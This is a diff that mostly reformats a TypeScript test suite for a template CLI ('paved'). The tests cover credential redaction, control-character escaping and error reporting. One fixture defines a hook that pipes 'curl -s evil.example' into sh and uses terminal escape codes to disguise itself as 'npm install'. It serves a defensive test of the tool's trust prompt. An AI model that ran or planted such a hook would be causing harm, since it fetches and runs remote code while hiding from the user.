@@ -123,7 +123,9 @@ describe("credentials in source URLs never reach a message or the cache's git co
 
       // A cache written by an older paved (token in its config) is cleaned on the next fetch.
       await execa("git", ["config", "remote.origin.url", url], { cwd: path.join(cache, "git", entries[0]!) });
-      const again = await runCli(["upgrade", "--check", w.target, "--json", "--source", url], { env: { PAVED_CACHE: cache, PAVED_CACHE_TTL: "0" } });
+      const again = await runCli(["upgrade", "--check", w.target, "--json", "--source", url], {
+        env: { PAVED_CACHE: cache, PAVED_CACHE_TTL: "0" },
+      });
       expect(again.exitCode, again.stderr).toBe(0);
       expectNoSecret(again.stdout, again.stderr, readFileSync(path.join(cache, "git", entries[0]!, "config"), "utf8"));
     });
@@ -131,7 +133,9 @@ describe("credentials in source URLs never reach a message or the cache's git co
     it("a wrong version over the authenticated URL: the error names the source without the token", async () => {
       const w = world();
       const url = `${base.replace("http://", `http://user:${SECRET}@`)}/api.git`;
-      const result = await runCli(["new", "api", w.target, "--source", url, "--version", "9.9.9", "--yes"], { env: { PAVED_CACHE: tempDir("paved-cache-") } });
+      const result = await runCli(["new", "api", w.target, "--source", url, "--version", "9.9.9", "--yes"], {
+        env: { PAVED_CACHE: tempDir("paved-cache-") },
+      });
       expect(result.exitCode).toBe(2);
       expect(result.stderr).toMatch(/no version 9\.9\.9/);
       expect(result.stderr).not.toMatch(STACK);
@@ -142,7 +146,16 @@ describe("credentials in source URLs never reach a message or the cache's git co
 
 describe("template text is shown with control characters escaped", () => {
   it("the --trust refusal lists a command that hides itself with \\e[2K\\r as it really is", async () => {
-    const src = makeSource({ evil: { "1.0.0": { manifest: { hooks: { postCreate: [{ run: "curl -s evil.example | sh #\u001b[2K\r  npm install", shell: true }, "echo \u202enoisses"] } }, files: { "a.txt": "a" } } } });
+    const src = makeSource({
+      evil: {
+        "1.0.0": {
+          manifest: {
+            hooks: { postCreate: [{ run: "curl -s evil.example | sh #\u001b[2K\r  npm install", shell: true }, "echo \u202enoisses"] },
+          },
+          files: { "a.txt": "a" },
+        },
+      },
+    });
     const w = world();
     const before = snapshotDir(w.root);
     const result = await runCli(["new", "evil", w.target, "--source", src]);
@@ -167,7 +180,11 @@ describe("template mistakes are exit 2 before anything is written", () => {
   });
 
   it.each([
-    ["a hook", { hooks: { postCreate: ['echo "unterminated'] } }, /hooks\.postCreate\[0\]: cannot be split into words: unterminated " quote/],
+    [
+      "a hook",
+      { hooks: { postCreate: ['echo "unterminated'] } },
+      /hooks\.postCreate\[0\]: cannot be split into words: unterminated " quote/,
+    ],
     ["a migration", { migrations: [{ run: "mv 'a b" }] }, /migrations\[0\]\.run: cannot be split into words: unterminated ' quote/],
   ])("an unterminated quote in %s: refused at load, reported by lint", async (_what, manifest, message) => {
     const src = makeSource({ evil: { "1.0.0": { manifest, files: { "a.txt": "a" } } } });
@@ -224,10 +241,22 @@ describe("template mistakes are exit 2 before anything is written", () => {
     const lint = await runCli(["template", "lint", path.join(src, "evil", "1.0.0"), "--json"]);
     expect(lint.exitCode).toBe(1);
     const findings = JSON.parse(lint.stdout).findings as Array<{ rule: string; message: string }>;
-    expect(findings).toContainEqual(expect.objectContaining({ rule: "render/undefined-variable", message: expect.stringMatching(/^hooks\.postUpgrade\[0\]: \{\{nope\}\} is not defined/) }));
-    const migration = makeSource({ evil: { "1.0.0": { manifest: { migrations: [{ run: ["npx", "codemod", "{{nope}}"] }] }, files: { "a.txt": "a" } } } });
+    expect(findings).toContainEqual(
+      expect.objectContaining({
+        rule: "render/undefined-variable",
+        message: expect.stringMatching(/^hooks\.postUpgrade\[0\]: \{\{nope\}\} is not defined/),
+      }),
+    );
+    const migration = makeSource({
+      evil: { "1.0.0": { manifest: { migrations: [{ run: ["npx", "codemod", "{{nope}}"] }] }, files: { "a.txt": "a" } } },
+    });
     const lintMigration = await runCli(["template", "lint", path.join(migration, "evil", "1.0.0"), "--json"]);
-    expect(JSON.parse(lintMigration.stdout).findings).toContainEqual(expect.objectContaining({ rule: "render/undefined-variable", message: expect.stringMatching(/^migrations\[0\]\.run\[2\]: \{\{nope\}\} is not defined/) }));
+    expect(JSON.parse(lintMigration.stdout).findings).toContainEqual(
+      expect.objectContaining({
+        rule: "render/undefined-variable",
+        message: expect.stringMatching(/^migrations\[0\]\.run\[2\]: \{\{nope\}\} is not defined/),
+      }),
+    );
   });
 });
 
@@ -241,7 +270,10 @@ describe("git failures in upgrade and diff are one line, exit 2", () => {
   it("a corrupt index", async () => {
     const dir = await newService(versions(), "1.0.0");
     writeFileSync(path.join(dir, ".git", "index"), "DIRC garbage");
-    for (const args of [["upgrade", dir], ["diff", dir]]) {
+    for (const args of [
+      ["upgrade", dir],
+      ["diff", dir],
+    ]) {
       const result = await runCli(args);
       expect(result.exitCode, `${args[0]}: ${result.stderr}`).toBe(2);
       expect(result.stderr).toMatch(/^error: git \S+ failed in .*: (fatal|error): .*index/m);
@@ -316,7 +348,9 @@ describe("a damaged cache", () => {
     const repo = await templateRepo();
     await repo.release("1.0.0");
     const cache = tempDir("paved-cache-");
-    const first = await runCli(["new", "api", path.join(tempDir(), "a"), "--source", repo.url, "--yes", "--no-git"], { env: { PAVED_CACHE: cache } });
+    const first = await runCli(["new", "api", path.join(tempDir(), "a"), "--source", repo.url, "--yes", "--no-git"], {
+      env: { PAVED_CACHE: cache },
+    });
     expect(first.exitCode, first.stderr).toBe(0);
     const [entry] = readdirSync(path.join(cache, "git"));
     const objects = path.join(cache, "git", entry!, "objects");
@@ -327,7 +361,9 @@ describe("a damaged cache", () => {
         writeFileSync(path.join(objects, dir, file), "");
       }
     }
-    const result = await runCli(["new", "api", path.join(tempDir(), "b"), "--source", repo.url, "--yes", "--no-git"], { env: { PAVED_CACHE: cache } });
+    const result = await runCli(["new", "api", path.join(tempDir(), "b"), "--source", repo.url, "--yes", "--no-git"], {
+      env: { PAVED_CACHE: cache },
+    });
     expect(result.exitCode).toBe(2);
     expect(result.stderr).toMatch(/the cached copy of file:\/\/.* is damaged/);
     expect(result.stderr).toContain(`delete ${path.join(cache, "git", entry!)}`);
